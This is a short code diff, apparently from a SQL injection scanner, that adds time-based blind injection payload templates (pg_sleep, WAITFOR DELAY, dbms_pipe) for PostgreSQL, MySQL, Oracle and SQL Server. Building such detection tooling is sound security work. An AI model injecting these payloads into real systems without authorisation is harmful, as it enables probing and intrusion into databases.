@@ -73,8 +73,9 @@ NUMBER_WAITS = (
     ("PostgreSQL", "{v}-(SELECT 0 FROM pg_sleep({s}))"),
     ("Oracle", "{v}-0*dbms_pipe.receive_message('{t}',{s})"),
 )
-NAME_WAITS = (("PostgreSQL", "{v},(SELECT 0 FROM pg_sleep({s}))"),)
+NAME_WAITS = (("PostgreSQL", "{v},(SELECT 0 FROM pg_sleep({s}))"), ("MySQL", f"{{v}},{_MYSQL}"))
 READING_WAITS = (
+    ("PostgreSQL", "{v}';SELECT pg_sleep({s})-- -"),
     ("Microsoft SQL Server", "{v}';WAITFOR DELAY '0:0:{s}'-- -"),
     ("Microsoft SQL Server", "{v}');WAITFOR DELAY '0:0:{s}'-- -"),
     ("Microsoft SQL Server", "{v};WAITFOR DELAY '0:0:{s}'-- -"),
